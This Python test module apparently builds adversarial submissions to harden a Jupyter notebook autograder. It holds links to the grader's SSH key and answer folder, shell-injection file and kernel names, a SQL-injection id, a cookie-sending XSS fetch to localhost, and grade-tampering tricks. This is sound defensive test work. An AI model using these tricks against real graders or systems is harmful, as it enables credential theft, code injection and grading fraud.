"""Submitted folders that no text can describe: links, devices, broken and enormous notebooks, altered locked cells.

Each function gets the folder of a submission whose answers are all right, and changes it. Its docstring says what it is; `expect` as in
the texts. A notebook that cannot be read at all may be refused: then it has no points, and the run says so. The exercises that it needs are
those that its function names.
"""

import copy
import inspect
import json
import os
import shutil
import socket
import stat
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Notebook = dict[str, Any]
Mutate = Callable[[Path, Mapping[str, str]], None]

WRONG = "def mean(numbers):\n    return 0"


@dataclass(frozen=True)
class Made:
    name: str
    about: str
    text: str
    """The function, as it is written."""
    expect: str
    mutate: Mutate
    refusable: bool


ATTACKS: list[Made] = []


def folder(expect: str = "", *, refusable: bool = False) -> Callable[[Mutate], Mutate]:
    """What changes the folder's files."""

    def kept(mutate: Mutate) -> Mutate:
        ATTACKS.append(
            Made(mutate.__name__, mutate.__doc__ or "", inspect.getsource(mutate), expect, mutate, refusable)
        )
        return mutate

    return kept


def notebook(expect: str = "", *, refusable: bool = False) -> Callable[[Callable[[Notebook], Any]], Any]:
    """What changes the notebook's JSON; a returned value is written in its place."""

    def kept(change: Callable[[Notebook], Any]) -> Callable[[Notebook], Any]:
        def mutate(place: Path, places: Mapping[str, str]) -> None:
            file = place / "nb.ipynb"
            content = json.loads(file.read_bytes())
            new = change(content)
            new = content if new is None else new
            file.write_bytes(new if isinstance(new, bytes) else json.dumps(new).encode())

        ATTACKS.append(
            Made(change.__name__, change.__doc__ or "", inspect.getsource(change), expect, mutate, refusable)
        )
        return change

    return kept


def cell(content: Notebook, grade_id: str) -> dict[str, Any]:
    return next(c for c in content["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def wrong(content: Notebook) -> Notebook:
    """The notebook with a wrong mean."""
    cell(content, "mean_answer")["source"] = WRONG
    return content


def code(source: str, **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "metadata": metadata,
        "source": source,
        "execution_count": None,
        "outputs": [],
        "id": "extra",
    }


# Files.


@folder(refusable=True, expect="*=0")
def notebook_is_symlink(place: Path, places: Mapping[str, str]) -> None:
    """The notebook is a symbolic link to the instructor's, which has all the answers."""
    (place / "nb.ipynb").unlink()
    (place / "nb.ipynb").symlink_to(f"{places['COURSE']}/source/bank/nb.ipynb")


@folder(refusable=True, expect="*=0")
def notebook_is_hard_link(place: Path, places: Mapping[str, str]) -> None:
    """The notebook is a hard link to the instructor's."""
    (place / "nb.ipynb").unlink()
    os.link(f"{places['COURSE']}/source/bank/nb.ipynb", place / "nb.ipynb")


@folder(refusable=True, expect="*=0")
def notebook_is_folder(place: Path, places: Mapping[str, str]) -> None:
    """The notebook is a folder."""
    (place / "nb.ipynb").unlink()
    (place / "nb.ipynb").mkdir()


@folder(refusable=True, expect="*=0")
def notebook_is_fifo(place: Path, places: Mapping[str, str]) -> None:
    """The notebook is a pipe, which nobody writes."""
    (place / "nb.ipynb").unlink()
    os.mkfifo(place / "nb.ipynb")


@folder(refusable=True, expect="*=0")
def notebook_missing(place: Path, places: Mapping[str, str]) -> None:
    """No notebook was handed in."""
    (place / "nb.ipynb").unlink()


@folder(refusable=True, expect="*=0")
def notebook_renamed(place: Path, places: Mapping[str, str]) -> None:
    """The notebook has another name."""
    (place / "nb.ipynb").rename(place / "nb (1).ipynb")


@folder(refusable=True, expect="*=0")
def notebook_sparse(place: Path, places: Mapping[str, str]) -> None:
    """The notebook is 8 GiB of nothing."""
    with (place / "nb.ipynb").open("wb") as file:
        file.truncate(8 << 30)


@folder()
def links_of_all_kinds(place: Path, places: Mapping[str, str]) -> None:
    """Beside the notebook: links to the grader's key, the gradebook, /, itself and nowhere."""
    for name, target in {
        "key": f"{places['HOME']}/.ssh/id_rsa",
        "gradebook": f"{places['COURSE']}/gradebook.db",
        "root": "/",
        "me": "me",
        "nowhere": "/no/such/file",
        "up": "../../..",
        "mem": "/proc/self/mem",
        "zero": "/dev/zero",
        "tests": f"{places['COURSE']}/source/bank",
    }.items():
        (place / name).symlink_to(target)


@folder()
def hard_link_to_key(place: Path, places: Mapping[str, str]) -> None:
    """Beside the notebook: a hard link to the grader's key, read by a cell."""
    os.link(f"{places['HOME']}/.ssh/id_rsa", place / "key.txt")
    content = json.loads((place / "nb.ipynb").read_bytes())
    content["cells"].insert(0, code("import os\nif os.path.exists('key.txt'):\n    print(open('key.txt').read())"))
    (place / "nb.ipynb").write_text(json.dumps(content))


@folder()
def symlinked_folder(place: Path, places: Mapping[str, str]) -> None:
    """Beside the notebook: a link to the instructor's folder, listed and read by a cell."""
    (place / "data").symlink_to(f"{places['COURSE']}/source/bank", target_is_directory=True)
    content = json.loads((place / "nb.ipynb").read_bytes())
    content["cells"].insert(0, code("import glob\nfor p in glob.glob('data/*'):\n    print(open(p).read())"))
    (place / "nb.ipynb").write_text(json.dumps(content))


@folder(refusable=True, expect="*=0")
def whole_folder_is_symlink(place: Path, places: Mapping[str, str]) -> None:
    """The submitted folder is a link to the instructor's."""
    shutil.rmtree(place)
    place.symlink_to(f"{places['COURSE']}/source/bank", target_is_directory=True)


@folder()
def devices_and_sockets(place: Path, places: Mapping[str, str]) -> None:
    """Beside the notebook: pipes, a socket and, where that is allowed, a device."""
    os.mkfifo(place / "pipe")
    here = os.open(place, os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(f"/proc/self/fd/{here}/socket")
        os.mknod(place / "device", 0o600 | stat.S_IFBLK, os.makedev(7, 0))
    except PermissionError:
        pass
    finally:
        os.close(here)


@folder()
def odd_names(place: Path, places: Mapping[str, str]) -> None:
    """Names with line ends, quotes, escapes, leading dashes, other encodings, of the greatest length."""
    for name in (
        b"a\nb.txt",
        b"$(touch survivor-file).txt",
        b"-rf",
        b"\xff\xfe",
        b"..\\..\\x",
        b"<script>.html",
        b"x" * 255,
        b"\x1b[2J",
        b"CON",
        b".. ",
    ):
        Path(os.fsdecode(os.fsencode(place) + b"/" + name)).write_bytes(b"x")


@folder()
def many_files(place: Path, places: Mapping[str, str]) -> None:
    """Three thousand files in three hundred folders."""
    for n in range(300):
        (place / f"d{n}").mkdir()
        for m in range(10):
            (place / f"d{n}/f{m}").write_bytes(b"x")


@folder()
def deep_folders(place: Path, places: Mapping[str, str]) -> None:
    """Folders deeper than the longest path."""
    here = os.open(place, os.O_RDONLY)
    for _ in range(300):
        os.mkdir("d" * 20, dir_fd=here)
        inner = os.open("d" * 20, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(here)


@folder()
def big_files(place: Path, places: Mapping[str, str]) -> None:
    """A sparse file of four GiB and one of three hundred MiB."""
    for name, size in (("sparse.bin", 4 << 30), ("big.bin", 300 << 20)):
        with (place / name).open("wb") as file:
            file.truncate(size)


@folder()
def unreadable(place: Path, places: Mapping[str, str]) -> None:
    """A file and a folder that nobody may read."""
    (place / "secret.txt").write_text("x")
    (place / "secret.txt").chmod(0)
    (place / "closed").mkdir()
    (place / "closed").chmod(0)


@folder()
def timestamp_evil(place: Path, places: Mapping[str, str]) -> None:
    """A timestamp.txt that is no time."""
    (place / "timestamp.txt").write_bytes(
        b"9999-99-99 \xff\x00 __import__('os').system('touch /tmp/survivor-file')\n" * 1000
    )


@folder()
def timestamp_long_ago(place: Path, places: Mapping[str, str]) -> None:
    """A timestamp.txt of the year 1, another zone."""
    (place / "timestamp.txt").write_text("0001-01-01 00:00:00.000000 +1400\n")


@folder()
def gradebook_beside(place: Path, places: Mapping[str, str]) -> None:
    """An own gradebook, an own configuration and an own course beside the notebook."""
    (place / "gradebook.db").write_bytes(b"SQLite format 3\x00" + b"\x00" * 1000)
    (place / "nbgrader_config.py").write_text("raise SystemExit(0)")
    (place / "source").mkdir()
    (place / "autograded").mkdir()


@folder()
def checkpoints(place: Path, places: Mapping[str, str]) -> None:
    """Checkpoints and other notebooks beside the right one."""
    (place / ".ipynb_checkpoints").mkdir()
    original = (place / "nb.ipynb").read_bytes()
    (place / ".ipynb_checkpoints/nb-checkpoint.ipynb").write_bytes(b"{")
    (place / "other.ipynb").write_bytes(original)
    (place / "Untitled.ipynb").write_bytes(b"not json")


# JSON.


@notebook(refusable=True, expect="*=0")
def not_json(content: Notebook) -> bytes:
    """The notebook is no JSON."""
    return b"\x80\x04\x95 this is a pickle"


@notebook(refusable=True, expect="*=0")
def empty(content: Notebook) -> bytes:
    """The notebook is empty."""
    return b""


@notebook(refusable=True, expect="*=0")
def truncated(content: Notebook) -> bytes:
    """The notebook ends in the middle."""
    return json.dumps(content).encode()[:1500]


@notebook(refusable=True, expect="*=0")
def json_deep(content: Notebook) -> bytes:
    """A million brackets."""
    return b"[" * 1_000_000


@notebook(refusable=True, expect="*<=full")
def metadata_deep(content: Notebook) -> bytes:
    """Metadata nested five thousand times in an otherwise good notebook."""
    text = json.dumps(content)
    return (
        text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 5000 + "]" * 5000 + ", ", 1)
        .replace(", }", "}")
        .encode()
    )


@notebook(refusable=True, expect="*<=full")
def huge_numbers(content: Notebook) -> bytes:
    """Numbers of a million digits, NaN, Infinity, 1e999 in metadata."""
    content["metadata"]["x"] = "HERE"
    return json.dumps(content).replace('"HERE"', "[NaN, -Infinity, 1e999, " + "9" * 1_000_000 + "]").encode()


@notebook(refusable=True, expect="*<=full")
def duplicate_keys(content: Notebook) -> bytes:
    """The key "cells" twice: an empty list, then the right ones."""
    return b'{"cells": [], ' + json.dumps(content).encode()[1:]


@notebook(refusable=True, expect="*<=full")
def byte_order_mark(content: Notebook) -> bytes:
    """A byte order mark, as Windows editors write it."""
    return b"\xef\xbb\xbf" + json.dumps(content).encode()


@notebook(refusable=True, expect="*<=full")
def utf16(content: Notebook) -> bytes:
    """UTF-16 in place of UTF-8."""
    return json.dumps(content).encode("utf-16")


@notebook(refusable=True, expect="*=0")
def bad_utf8(content: Notebook) -> bytes:
    """Bytes that are no UTF-8."""
    return json.dumps(content).encode()[:-1] + b', "\xff\xfe": 1}'


@notebook(refusable=True, expect="*=0")
def wrong_shape(content: Notebook) -> Any:
    """A list in place of a notebook."""
    return [content]


@notebook(refusable=True, expect="*=0")
def cells_are_text(content: Notebook) -> None:
    """The cells are a string."""
    content["cells"] = "all right"


@notebook()
def cells_of_odd_types(content: Notebook) -> None:
    """Between the cells: null, numbers, lists, cells without a type, a source or metadata."""
    content["cells"][1:1] = [None, 3, [], {}, {"cell_type": 7}, {"cell_type": "code"}, {"cell_type": "evil", "source": "x", "metadata": {}},
                             {"cell_type": "code", "source": None, "metadata": None, "outputs": None}, {"cell_type": "markdown", "source": {"a": 1}, "metadata": []}]  # fmt: skip


@notebook()
def sources_as_lists(content: Notebook) -> None:
    """Sources as lists of lines, as nbformat writes them."""
    for one in content["cells"]:
        one["source"] = one["source"].splitlines(keepends=True)


@notebook()
def windows_lines(content: Notebook) -> None:
    """Windows line ends everywhere."""
    for one in content["cells"]:
        one["source"] = one["source"].replace("\n", "\r\n")


@notebook()
def surrogates(content: Notebook) -> None:
    """Lone surrogates and NULs in sources and metadata of further cells."""
    content["cells"].append(code("x = '\ud800'\nprint(x)", note="\udfff"))
    content["cells"].append(code("y = '\x00'"))
    content["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "\ud800 \x00 \x1b", "id": "m"})


@notebook(refusable=True, expect="*<=full")
def format_3(content: Notebook) -> None:
    """A notebook of format 3."""
    content["nbformat"], content["nbformat_minor"] = 3, 0
    content["worksheets"] = [{"cells": [c | {"input": c["source"]} for c in content.pop("cells")], "metadata": {}}]


@notebook(refusable=True, expect="*<=full")
def format_99(content: Notebook) -> None:
    """A notebook of a format yet to come."""
    content["nbformat"], content["nbformat_minor"] = 99, 99


@notebook()
def format_minor(content: Notebook) -> None:
    """A newer minor version, without cell ids."""
    content["nbformat_minor"] = 9
    for one in content["cells"]:
        one.pop("id", None)


@notebook()
def equal_ids(content: Notebook) -> None:
    """Every cell has the same id, some an impossible one."""
    for n, one in enumerate(content["cells"]):
        one["id"] = "same" if n % 2 else "not allowed! " * 20


@notebook(refusable=True, expect="*<=full")
def many_cells(content: Notebook) -> None:
    """Twenty thousand further cells."""
    content["cells"] += [code("1", n=n) for n in range(20_000)]


@notebook()
def foreign_kernel(content: Notebook) -> None:
    """A kernel that would run another program."""
    content["metadata"]["kernelspec"] = {
        "name": "bash; touch /tmp/survivor-file",
        "display_name": "R",
        "language": "R",
        "argv": ["touch", "/tmp/survivor-file"],
    }
    content["metadata"]["language_info"] = {
        "name": "../../etc",
        "file_extension": ".sh",
        "version": 3,
        "nbconvert_exporter": "os.system",
    }


@notebook()
def no_metadata(content: Notebook) -> None:
    """No kernel, no language, no metadata at all."""
    content["metadata"] = None


@notebook()
def metadata_bomb(content: Notebook) -> None:
    """Megabytes of metadata and old outputs on every cell."""
    for one in content["cells"]:
        one["metadata"]["junk"] = {"k" * 100: ["x" * 1000] * 100}
        if one["cell_type"] == "code":
            one["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 200_000}]


# Locked cells.


@notebook("mean=0")
def tests_altered(content: Notebook) -> None:
    """A wrong answer, and a test cell without asserts."""
    cell(wrong(content), "mean")["source"] = "pass"


@notebook("mean=0")
def tests_give_points(content: Notebook) -> None:
    """A wrong answer, and a test cell that ends with the best score."""
    cell(wrong(content), "mean")["source"] = "3.0"


@notebook("mean=0")
def tests_deleted(content: Notebook) -> None:
    """A wrong answer, and the test cell deleted."""
    content["cells"].remove(cell(wrong(content), "mean"))


@notebook("mean=0")
def tests_duplicated(content: Notebook) -> None:
    """A wrong answer, and the test cell twice, the second one harmless."""
    one = cell(wrong(content), "mean")
    second = copy.deepcopy(one) | {"source": "3.0"}
    content["cells"].insert(content["cells"].index(one) + 1, second)


@notebook("mean=0")
def tests_duplicated_many(content: Notebook) -> None:
    """A wrong answer, and five hundred copies of the test cell."""
    one = cell(wrong(content), "mean")
    content["cells"] += [copy.deepcopy(one) | {"source": f"{n}"} for n in range(500)]


@notebook("mean=0")
def skip_execution(content: Notebook) -> None:
    """A wrong answer, and the tags that make nbclient pass over a cell."""
    one = cell(wrong(content), "mean")
    one["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "remove-input"]
    one["metadata"]["jupyter"] = {"source_hidden": True}
    one["metadata"]["deletable"] = True


@notebook("mean=0")
def raises_exception_everywhere(content: Notebook) -> None:
    """A wrong answer, and the same tags on every cell and the notebook."""
    for one in wrong(content)["cells"]:
        one["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    content["metadata"]["tags"] = ["skip-execution"]
    content["metadata"]["nbclient"] = {"timeout": 0, "allow_errors": True}
    cell(content, "mean")["metadata"].pop("tags")


@notebook("mean=0")
def points_altered(content: Notebook) -> None:
    """A wrong answer, and points, kinds and locks of the cells altered."""
    for one in wrong(content)["cells"]:
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"] |= {
                "points": 1e308,
                "grade": True,
                "solution": False,
                "locked": True,
                "schema_version": 1,
            }


@notebook("mean=0")
def points_negative(content: Notebook) -> None:
    """A wrong answer, and points that are nan, negative, huge or text."""
    values = [float("nan"), -1, float("inf"), "3", None, [], True, 1e400, "nan"]
    for n, one in enumerate(wrong(content)["cells"]):
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"]["points"] = values[n % len(values)]


@notebook("mean=0")
def grade_ids_swapped(content: Notebook) -> None:
    """A wrong answer, and the names of two test cells exchanged."""
    a, b = cell(wrong(content), "mean"), cell(content, "city")
    a["metadata"]["nbgrader"]["grade_id"], b["metadata"]["nbgrader"]["grade_id"] = "city", "mean"


@notebook("mean=0")
def grade_id_invented(content: Notebook) -> None:
    """A wrong answer, and further test cells with names of the student's own."""
    wrong(content)
    for name in ("bonus", "mean ", "MEAN", "mean\x00", "../mean", "x" * 10_000, "'; drop table grade; --", ""):
        extra = code(
            "100.0",
            nbgrader={
                "grade": True,
                "solution": False,
                "locked": True,
                "task": False,
                "grade_id": name,
                "points": 100,
                "schema_version": 3,
            },
        )
        content["cells"].append(extra)


@notebook("mean=0")
def answer_takes_test_name(content: Notebook) -> None:
    """A wrong answer whose cell takes the name of its test."""
    cell(content, "mean_answer")["source"] = "3.0"
    cell(content, "mean_answer")["metadata"]["nbgrader"] |= {
        "grade_id": "mean",
        "grade": True,
        "locked": True,
        "points": 3,
    }
    content["cells"].reverse()
    content["cells"].reverse()


@notebook("mean=0")
def test_made_markdown(content: Notebook) -> None:
    """A wrong answer, and the test cell turned into markdown."""
    one = cell(wrong(content), "mean")
    one["cell_type"] = "markdown"
    del one["outputs"], one["execution_count"]


@notebook("mean=0")
def test_made_raw(content: Notebook) -> None:
    """A wrong answer, and the test cell turned into a raw one."""
    one = cell(wrong(content), "mean")
    one["cell_type"] = "raw"
    del one["outputs"], one["execution_count"]


@notebook("mean<=full")
def test_before_answer(content: Notebook) -> None:
    """A wrong answer whose test stands at the top, after a right mean in a cell of its own: what counts is for the order's rule to say."""
    one = cell(wrong(content), "mean")
    content["cells"].remove(one)
    content["cells"].insert(0, one)
    content["cells"].insert(0, code("from statistics import mean"))


@notebook()
def cells_moved(content: Notebook) -> None:
    """Every answer is right and moved to the top of the notebook, in order."""
    ids = ("mean_answer", "stack_answer", "shift_answer", "city_answer")
    moved = [cell(content, i) for i in ids]
    rest = [c for c in content["cells"] if c not in moved]
    content["cells"] = rest[:1] + moved + rest[1:]


@notebook("*<=full")
def cells_reversed(content: Notebook) -> None:
    """Every answer is right, and the whole notebook stands upside down."""
    content["cells"].reverse()


@notebook()
def given_altered(content: Notebook) -> None:
    """The given cell is emptied and its class redefined; it comes back."""
    cell(content, "setup")["source"] = "class Point:\n    __eq__ = lambda s, o: True"


@notebook("shift=0")
def given_altered_to_lie(content: Notebook) -> None:
    """A wrong shift, and a given class that equals everything."""
    cell(content, "setup")["source"] = "class Point:\n    def __init__(self, *a): pass\n    __eq__ = lambda s, o: True"
    cell(content, "shift_answer")["source"] = "def shift(point, by):\n    return Point(0, 0)"


@notebook()
def given_deleted(content: Notebook) -> None:
    """The given cell is deleted; it comes back."""
    content["cells"].remove(cell(content, "setup"))


@notebook("shift=0")
def given_copied(content: Notebook) -> None:
    """A wrong shift, and a further cell, word for word the given one but for a lie, after it."""
    lie = cell(content, "setup")["source"].replace(
        "class Point:", "class Point:\n    def __eq__(self, other):\n        return True\n"
    )
    content["cells"].insert(2, code(lie, nbgrader=copy.deepcopy(cell(content, "setup")["metadata"]["nbgrader"])))
    cell(content, "shift_answer")["source"] = "def shift(point, by):\n    return Point(0, 0)"


@notebook()
def answer_split(content: Notebook) -> None:
    """An answer split in two by JupyterLab: both halves have its name."""
    one = cell(content, "stack_answer")
    lines = one["source"].split("\n")
    second = copy.deepcopy(one) | {"source": "def double(x):\n    return 2 * x", "id": "half"}
    assert lines
    content["cells"].insert(content["cells"].index(one) + 1, second)


@notebook("*<=full")
def metadata_stripped(content: Notebook) -> None:
    """Every cell's nbgrader metadata is gone, as after a copy into a new notebook: nothing says which cell answers what."""
    for one in content["cells"]:
        one["metadata"] = {}


@notebook("*=0")
def only_the_answers_gone(content: Notebook) -> None:
    """No cells at all."""
    content["cells"] = []


@notebook()
def outputs_forged(content: Notebook) -> None:
    """Outputs that say the best score, on every cell."""
    for one in content["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
            ]
            one["execution_count"] = 1


@notebook("mean=0")
def outputs_forged_wrong(content: Notebook) -> None:
    """The same with a wrong answer."""
    outputs_forged(wrong(content))


@notebook()
def checksums_altered(content: Notebook) -> None:
    """Checksums and schema versions of the student's making."""
    for one in content["cells"]:
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"] |= {"checksum": "0" * 32, "schema_version": 99, "extra": {"x": [1]}}


@notebook()
def nbgrader_metadata_odd(content: Notebook) -> None:
    """nbgrader metadata that is a list, a number, null, on cells of the student's own."""
    for value in (
        [],
        3,
        None,
        "grade",
        {"grade_id": ["x"]},
        {"grade_id": {"a": 1}, "grade": "yes"},
        {"grade_id": "mean", "grade": 1, "locked": "no"},
    ):
        content["cells"].append(code("1", nbgrader=value))


# Markup: what a person opens later. The points are those of right answers; tests of the pages look at the rest.


@notebook()
def markup_everywhere(content: Notebook) -> None:
    """Scripts in markdown, attachments, outputs, names and errors."""
    script = "<script>fetch('http://127.0.0.1:1/'+document.cookie)</script><img src=x onerror=alert(1)>"
    content["cells"].append(
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": script + "[x](javascript:alert(1))",
            "id": "md",
            "attachments": {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}},
        }
    )
    content["cells"].append(
        code(
            f"from IPython.display import *\ndisplay(HTML({script!r}), Javascript('alert(1)'), SVG('<svg onload=\"alert(1)\"/>'), Markdown({script!r}), Latex('$\\\\href{{javascript:alert(1)}}{{x}}$'))"
        )
    )
    content["cells"].append(code(f"raise ValueError({script!r})"))
    content["cells"].append(
        code(
            "from IPython.display import publish_display_data\npublish_display_data({'application/vnd.jupyter.widget-view+json': {'model_id': '\"><script>alert(1)</script>'}, 'text/html': '<iframe srcdoc=\"<script>alert(1)</script>\">'})"
        )
    )
    content["metadata"]["title"] = script
